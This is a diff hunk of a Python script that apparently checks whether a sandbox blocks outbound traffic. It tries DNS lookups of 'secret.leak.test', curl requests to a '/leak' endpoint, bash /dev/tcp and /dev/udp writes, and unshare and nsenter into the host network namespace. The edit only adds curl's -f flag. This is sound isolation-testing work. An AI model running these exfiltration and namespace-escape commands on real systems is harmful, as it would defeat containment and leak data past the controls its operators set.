@@ -56,11 +56,11 @@ for path in targets["sockets"]:
     attempt(f"unix {path}", lambda: unix(path))
 attempt("raw icmp", lambda: raw(1)); attempt("raw tcp", lambda: raw(6)); attempt("packet", packet); attempt("vsock", vsock)
 attempt("resolve", lambda: socket.getaddrinfo("secret.leak.test", 80))
-for command in (["getent", "hosts", "secret.leak.test"], ["curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
+for command in (["getent", "hosts", "secret.leak.test"], ["curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
                 ["bash", "-c", "exec 3<>/dev/tcp/%s/%d; echo leak >&3" % (targets["hosts"][0], targets["port"])],
                 ["bash", "-c", "echo leak > /dev/udp/%s/%d" % (targets["hosts"][0], targets["udp"])],
-                ["unshare", "-rn", "curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
-                ["nsenter", "-t", "1", "-n", "curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])]):
+                ["unshare", "-rn", "curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
+                ["nsenter", "-t", "1", "-n", "curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])]):
     attempt(" ".join(command), lambda: subprocess.run(command, timeout=3, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
 interfaces = []
 attempt("interfaces", lambda: interfaces.extend(name for _, name in socket.if_nameindex()))
